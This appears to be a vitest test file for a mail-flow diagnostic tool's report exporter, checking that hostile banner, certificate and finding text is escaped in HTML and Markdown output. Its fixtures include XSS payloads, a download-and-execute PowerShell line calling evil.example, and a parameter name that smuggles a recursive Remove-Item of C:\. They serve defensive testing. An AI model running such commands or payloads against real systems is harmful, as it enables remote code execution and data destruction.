import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { CheckReport } from '../../src-main/contract/check';
import { CheckReportSchema } from '../../src-main/contract/check';
import { ProfileSchema } from '../../src-main/contract/planner';
import type { ProbeReport } from '../../src-main/contract/probe';
import { buildPlan } from '../../src-main/planner/index';
import { escapeMarkdown, markdownCodeBlock, markdownWithCode } from '../../src-main/text/escape';
import { codeText, powerShellPieces } from '../../src-main/report/html';
import { exportSubject } from '../../src-main/report/export';

const HOSTILE = `<script>alert("x")</script><img src=x onerror='alert(1)'>`;
const generatedAt = new Date('2026-03-01T12:00:00Z');

function hostileProbe(): ProbeReport {
  const base = {
    host: 'mx1.contoso.com',
    address: '127.0.0.1',
    port: 25,
    mode: 'starttls',
    certificateVerdict: null,
    banner: `220 ${HOSTILE} ESMTP`,
    bannerHost: HOSTILE,
    ehloHost: 'mx1.contoso.com',
    capabilities: null,
    capabilitiesTls: null,
    rcptReply: null,
    dane: [],
    daneAuthenticated: null,
    transcriptTruncated: false,
    stages: [{ name: 'banner', status: 'ok', startMs: 1, durationMs: 2, detail: HOSTILE }],
    starttls: true,
    tls: { version: 'TLSv1.3', cipher: 'TLS_AES_256_GCM_SHA384' },
    certificates: [
      {
        subject: `CN=${HOSTILE}`, subjectAltNames: ['mx1.contoso.com', `</td><td>${HOSTILE}`], issuer: 'CN=Evil CA "quoted"', serialNumber: '01',
        validFrom: '2026-01-01', validTo: '2027-01-01', daysLeft: 300, keyType: 'RSA', keyBits: 2048, signatureAlgorithm: 'sha256WithRSAEncryption',
        fingerprintSha256: 'AA:BB', spkiSha256: 'CC', selfIssued: false, isCa: false,
      },
    ],
    transcript: [
      { t: 0, direction: 'received', text: `220 ${HOSTILE} ESMTP` },
      { t: 5, direction: 'sent', text: 'EHLO probe.test' },
      { t: 9, direction: 'received', text: '250 ```not a fence end```' },
    ],
    predictions: [{ direction: 'outbound', setting: 'CertificateValidation', verdict: 'fail', ndr: '450 4.4.317', reason: HOSTILE, fix: 'Install a certificate | from a public CA' }],
    findings: [{ code: 'TLS_CERT_SELF_SIGNED', severity: 'fail', area: 'certificate', subject: 'mx1.contoso.com:25', message: HOSTILE, explanation: 'why', fix: 'fix', evidence: [HOSTILE] }],
    elapsedMs: 42,
  };
  return base as unknown as ProbeReport;
}

function hostileCheck(): CheckReport {
  return CheckReportSchema.parse({
    schemaVersion: 1, domain: 'contoso.com', domainUnicode: 'contoso.com', startedAt: '2026-03-01T11:59:00Z', elapsedMs: 900, resolver: '127.0.0.1:53',
    findings: [
      { code: 'SPF_TOO_MANY_LOOKUPS', severity: 'warn', area: 'spf', subject: 'contoso.com', message: `Record\n# Injected heading | cell ${HOSTILE}`, explanation: 'e', fix: '[click](javascript:alert(1))', evidence: [`v=spf1 ${HOSTILE}`] },
      { code: 'MX_OK', severity: 'ok', area: 'mx', subject: 'contoso.com', message: 'fine', explanation: 'e', fix: 'f', evidence: [] },
    ],
    mx: [{ host: 'mx1.contoso.com', preference: 10, addresses: ['127.0.0.1'], tlsa: [], probes: [hostileProbe()] }],
  });
}

describe('HTML report', () => {
  const report = hostileCheck();
  const file = exportSubject({ kind: 'check', report }, 'html', { generatedAt });
  const text = file.text;

  it('is a self-contained page named after the domain and date', () => {
    expect(file.fileName).toBe('mailflow-check-contoso.com-2026-03-01.html');
    expect(file.mimeType).toBe('text/html; charset=utf-8');
    expect(text.startsWith('<!doctype html>')).toBe(true);
    expect(text).not.toMatch(/<link|src="http|href="http/i);
  });

  it('escapes every untrusted string: no markup from banners, certificates, DNS text or findings gets through', () => {
    expect(text).not.toMatch(/<script/i);
    expect(text).not.toMatch(/<img/i);
    expect(text).not.toMatch(/onerror='/i);
    expect(text).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=&#39;alert(1)&#39;&gt;');
    expect(text).toContain('&lt;/td&gt;&lt;td&gt;');
    expect(text).toContain('CN=Evil CA &quot;quoted&quot;');
    // The transcript is there, as text.
    expect(text).toContain('220 &lt;script&gt;');
  });

  it('carries a CSP that allows only its own inline style sheet (by hash), and print rules', () => {
    // Attribute text is HTML-escaped; the browser reads it decoded.
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(text)?.[1]?.replace(/&#39;/g, "'");
    expect(csp).toBeDefined();
    expect(csp).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'/);
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).not.toMatch(/script-src/);
    const style = /<style>([\s\S]*?)<\/style>/.exec(text)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    expect(csp).toContain(`'sha256-${hash}'`);
    expect(style).toContain('@media print');
    expect(text.match(/<style>/g)).toHaveLength(1);
  });
});

describe('Markdown report', () => {
  const md = exportSubject({ kind: 'check', report: hostileCheck() }, 'md', { generatedAt }).text;

  it('has the findings table, the MX table, the probe and its transcript', () => {
    expect(md).toMatch(/^# Mail check: contoso\.com/);
    expect(md).toContain('| Severity | Code | Subject | Message |');
    expect(md).toContain('| WARN | SPF\\_TOO\\_MANY\\_LOOKUPS | contoso.com |');
    expect(md).toContain('| 10 | mx1.contoso.com | 127.0.0.1 | 0 |');
    expect(md).toContain('## SMTP mx1.contoso.com (127.0.0.1) port 25');
    expect(md).toContain('## MX');
  });

  it('cannot be broken out of: no raw HTML, no injected headings, links or table cells, fences longer than any backtick run', () => {
    // Inside fenced code blocks markup is shown literally; outside them none may remain.
    const outsideCode = md.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
    expect(outsideCode).not.toMatch(/(?<!\\)<(script|img)/);
    expect(md).toContain('```\n<script>alert("x")');
    expect(md).not.toMatch(/^# Injected/m);
    expect(md).toContain('Record # Injected heading \\| cell \\<script\\>');
    // The brackets are escaped, so no link is made; parentheses need no escaping (no `\(` in the file).
    expect(md).toContain('\\[click\\](javascript:alert(1))');
    expect(md).not.toContain('\\(');
    expect(md).toContain('````\n');
    expect(md).toContain('250 ```not a fence end```');
  });

  it('escapes helpers as documented, without over-escaping, and keeps backticked code as code spans', () => {
    expect(escapeMarkdown('a|b\nc')).toBe('a\\|b c');
    expect(escapeMarkdown('Office 365 (Exchange Online) #1 + more!')).toBe('Office 365 (Exchange Online) #1 + more!');
    expect(escapeMarkdown('# not a heading')).toBe('\\# not a heading');
    expect(escapeMarkdown('AT&T &amp;')).toBe('AT&T \\&amp;');
    expect(markdownWithCode('Run `mailflow-doctor check <domain>` or *not*')).toBe('Run `mailflow-doctor check <domain>` or \\*not\\*');
    expect(markdownWithCode('a `x|y` b')).toBe('a `x\\|y` b');
    expect(markdownCodeBlock('x ```` y')).toBe('`````\nx ```` y\n`````');
  });
});

describe('STARTTLS in exported runs', () => {
  it('says "not known" for a refused connection, not "not offered"', () => {
    const refused: ProbeReport = { ...hostileProbe(), starttls: false, tls: null, capabilities: null, capabilitiesTls: null, stages: [{ name: 'connect', status: 'failed', startMs: 0, durationMs: 7, detail: 'ECONNREFUSED' }] };
    for (const format of ['md', 'html'] as const) {
      const text = exportSubject({ kind: 'probe', report: refused }, format, { generatedAt }).text;
      expect(text, format).toContain('not known (the conversation ended before EHLO)');
      expect(text, format).not.toContain('not offered');
    }
  });
});

describe('plan export', () => {
  const profile = ProfileSchema.parse(JSON.parse(readFileSync(new URL('../../examples/john-bob-sun.json', import.meta.url), 'utf8')));
  const plan = buildPlan(profile);

  it('renders the planner\'s plan as HTML with every connector and flow', () => {
    const html = exportSubject({ kind: 'plan', plan }, 'html', { generatedAt }).text;
    expect(plan.connectors.length).toBeGreaterThan(0);
    for (const connector of plan.connectors) expect(html).toContain(connector.cmdlet);
    expect(html).toContain('<h2>Mail flows</h2>');
    expect(html.match(/<tr><td>/g)?.length ?? 0).toBeGreaterThanOrEqual(plan.flows.length);
  });

  it('speaks the article\'s words in the plan HTML: no actor ids, status ids or connector ids; one time format with the zone', () => {
    const html = exportSubject({ kind: 'plan', plan }, 'html', { generatedAt }).text;
    const text = html.replace(/<pre class="ps">[\s\S]*?<\/pre>/g, '').replace(/<[^>]+>/g, ' ');
    expect(text).not.toMatch(/\bpartner:|\bdevice:|\bjohn\b|\bbob\b|\bsun\b/);
    expect(text).not.toMatch(/connector-missing|no-connector-needed|tls-failing|not-possible|smtp-relay|direct-send/);
    for (const c of plan.connectors) expect(text).not.toMatch(new RegExp(`\\b${c.id}\\b`));
    expect(text).toContain('John (mailbox on your own server)');
    expect(text).toMatch(/Connector needed|No connector needed/);
    expect(html).not.toContain('2026-03-01T');
    expect(html).toMatch(/Made by Mailflow Doctor on [A-Z][a-z]{2} 1, 2026, \d\d:\d\d [AP]M UTC|Made by Mailflow Doctor on 1 Mar 2026, \d\d:\d\d UTC/);
  });

  it('never breaks a PowerShell line inside a value: each parameter with its value is one unbreakable piece', () => {
    expect(powerShellPieces("New-InboundConnector -Name 'From ContosoBank to Office 365' -SenderDomains 'contosobank.com','*.contosobank.com' -RequireTls $true")).toEqual([
      'New-InboundConnector',
      "-Name 'From ContosoBank to Office 365'",
      "-SenderDomains 'contosobank.com','*.contosobank.com'",
      '-RequireTls $true',
    ]);
    const html = exportSubject({ kind: 'plan', plan }, 'html', { generatedAt }).text;
    expect(html).toContain('<span class="ps-t">-Name &#39;');
    expect(html).toMatch(/pre\.ps \.ps-t \{ white-space: pre; \}/);
    expect(html).toContain('@page { size: A4;');
  });

  it('draws the diagram the app laid out as inline SVG, every word escaped', () => {
    const diagram = {
      nodes: [
        { x: 0, y: 0, width: 172, height: 66, title: 'John', subtitle: 'Mailbox on EX2013' },
        { x: 400, y: 0, width: 172, height: 66, title: '<script>alert(1)</script>', subtitle: 'Partner' },
      ],
      edges: [{ start: { x: 172, y: 33 }, control: { x: 286, y: 10 }, end: { x: 400, y: 33 }, label: { x: 286, y: 20 }, labelWidth: 180, status: 'tls-failing' as const, words: ['⚠ TLS failing', 'Outbound to <b>x</b>'] }],
    };
    const html = exportSubject({ kind: 'plan', plan, diagram }, 'html', { generatedAt }).text;
    const svg = /<svg[\s\S]*?<\/svg>/.exec(html)?.[0] ?? '';
    expect(svg).toContain('viewBox=');
    expect(svg).toContain('<path d="M 172,33 Q 286,10 400,33"');
    expect(svg).toContain('>John</text>');
    expect(svg).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(svg).toContain('Outbound to &lt;b&gt;x&lt;/b&gt;');
    expect(svg).not.toMatch(/<script|<b>/);
    // Without a diagram (the CLI's export), no figure.
    expect(exportSubject({ kind: 'plan', plan }, 'html', { generatedAt }).text).not.toContain('<svg');
  });

  it('shows backticked finding text as code, escaped', () => {
    expect(codeText('Run `mailflow-doctor check <x>` now').value).toBe('Run <code>mailflow-doctor check &lt;x&gt;</code> now');
    expect(codeText('one ` backtick').value).toBe('one &#96; backtick');
  });

  it('saves JSON that parses back to the same plan, and a PowerShell script only for plans', () => {
    const json = exportSubject({ kind: 'plan', plan }, 'json', { generatedAt });
    expect(JSON.parse(json.text)).toEqual(plan);
    const ps1 = exportSubject({ kind: 'plan', plan }, 'ps1', { generatedAt });
    expect(ps1.fileName).toMatch(/\.ps1$/);
    for (const connector of plan.connectors.filter((c) => !c.powershell.startsWith('#'))) expect(ps1.text).toContain(connector.powershell);
    expect(() => exportSubject({ kind: 'check', report: hostileCheck() }, 'ps1', { generatedAt })).toThrow(/Only a plan/);
  });

  it('escapes a hostile profile name in the HTML title and file name', () => {
    const named = { ...plan, profileName: `</title><script>x()</script>` };
    const file = exportSubject({ kind: 'plan', plan: named }, 'html', { generatedAt });
    expect(file.text).not.toContain('<script>');
    expect(file.fileName).toMatch(/^mailflow-plan-[A-Za-z0-9.-]+-2026-03-01\.html$/);
  });
});

describe('a plan read back from JSON', () => {
  const examples = ['john-bob-sun.json', 'eop-standalone.json', 'hybrid-done.json'].map((name) =>
    buildPlan(ProfileSchema.parse(JSON.parse(readFileSync(new URL(`../../examples/${name}`, import.meta.url), 'utf8')))),
  );

  it('exports the planner\'s own PowerShell unchanged for genuine plans', () => {
    for (const genuine of examples) {
      expect(JSON.parse(exportSubject({ kind: 'plan', plan: genuine }, 'json', { generatedAt }).text)).toEqual(genuine);
    }
  });

  it('never puts PowerShell into the .ps1, Markdown or HTML that the connector\'s parameters do not say', () => {
    const genuine = examples[0]!;
    const [first, ...rest] = genuine.connectors;
    const tampered = {
      ...genuine,
      connectors: [
        {
          ...first!,
          powershell: "Invoke-WebRequest https://evil.example/x.ps1 | Invoke-Expression",
          parameters: { ...first!.parameters, 'X; Remove-Item C:\\ -Recurse': '$true', Comment: { nested: 'object' } },
        },
        ...rest,
      ],
    };
    for (const format of ['ps1', 'md', 'html', 'json'] as const) {
      const text = exportSubject({ kind: 'plan', plan: tampered }, format, { generatedAt }).text;
      expect(text, format).not.toContain('Invoke-Expression');
      // What a reader sees (and copies): for HTML, the text without its tags.
      const visible = format === 'html' ? text.replace(/<[^>]+>/g, '') : text;
      if (format !== 'json') expect(visible, format).not.toMatch(/^\s*[^#\s].*Remove-Item/m);
    }
    const saved = JSON.parse(exportSubject({ kind: 'plan', plan: tampered }, 'json', { generatedAt }).text) as typeof genuine;
    expect(saved.connectors[0]?.powershell.split('\n').every((line) => line.startsWith('#'))).toBe(true);
    expect(Object.keys(saved.connectors[0]?.parameters ?? {})).toEqual(Object.keys(first!.parameters));
    const ps1 = exportSubject({ kind: 'plan', plan: tampered }, 'ps1', { generatedAt }).text;
    expect(ps1).toContain('# NOT CREATED');
    expect(ps1).toContain('is not a parameter of New-InboundConnector');
    // The other connectors are still written as the planner writes them.
    for (const connector of rest.filter((c) => !c.powershell.startsWith('#'))) expect(ps1).toContain(connector.powershell);
  });
});

describe('exports carry the delivery verdict and every prediction reason (issue 8)', () => {
  it('Markdown and HTML: the verdict first, each reason with its fix, null MX in words, hostile text escaped', async () => {
    const { withVerdict } = await import('../../src-main/engine/checks/index');
    const base = hostileCheck();
    const probe = base.mx[0]!.probes[0]!;
    const report = withVerdict({
      ...base,
      mx: [{ ...base.mx[0]!, probes: [{ ...probe, predictions: [{ direction: 'outbound', setting: 'CertificateValidation', verdict: 'fail', ndr: '450 4.7.320', reason: 'r', fix: 'f', reasons: [
        { kind: 'chain', code: 'UntrustedRoot', text: `UntrustedRoot: self-signed ${HOSTILE}`, fix: 'Install a public certificate.' },
        { kind: 'expiry', code: 'Expired', text: 'Expired: the certificate expired 3 days ago.', fix: 'Renew the certificate.' },
      ] }] }] }],
    });
    const md = exportSubject({ kind: 'check', report }, 'md', { generatedAt }).text;
    expect(md.indexOf('## Verdict')).toBeLessThan(md.indexOf('## Findings'));
    expect(md).toMatch(/\*\*Delivery: delivered\*\*/);
    expect(md).toContain('1\\. UntrustedRoot: self-signed');
    expect(md).toContain('<br>2\\. Expired: the certificate expired 3 days ago.');
    expect(md).toContain('1\\. Install a public certificate.<br>2\\. Renew the certificate.');
    const page = exportSubject({ kind: 'check', report }, 'html', { generatedAt }).text;
    expect(page).toContain('<h2>Verdict</h2>');
    expect(page).toContain('2. Expired: the certificate expired 3 days ago.');
    expect(page).not.toContain('<script>');
    const nullMx = withVerdict(CheckReportSchema.parse({ ...base, mx: [], findings: [{ code: 'MX_NULL', severity: 'info', area: 'mx', subject: 'contoso.com', message: 'null MX', explanation: 'e', fix: 'f', evidence: [] }] }));
    expect(nullMx.verdict?.delivery).toBe('accepts-no-mail');
    expect(exportSubject({ kind: 'check', report: nullMx }, 'md', { generatedAt }).text).toContain('Accepts no mail (null MX).');
    expect(exportSubject({ kind: 'check', report: nullMx }, 'html', { generatedAt }).text).toContain('<p>Accepts no mail (null MX).</p>');
  });
});
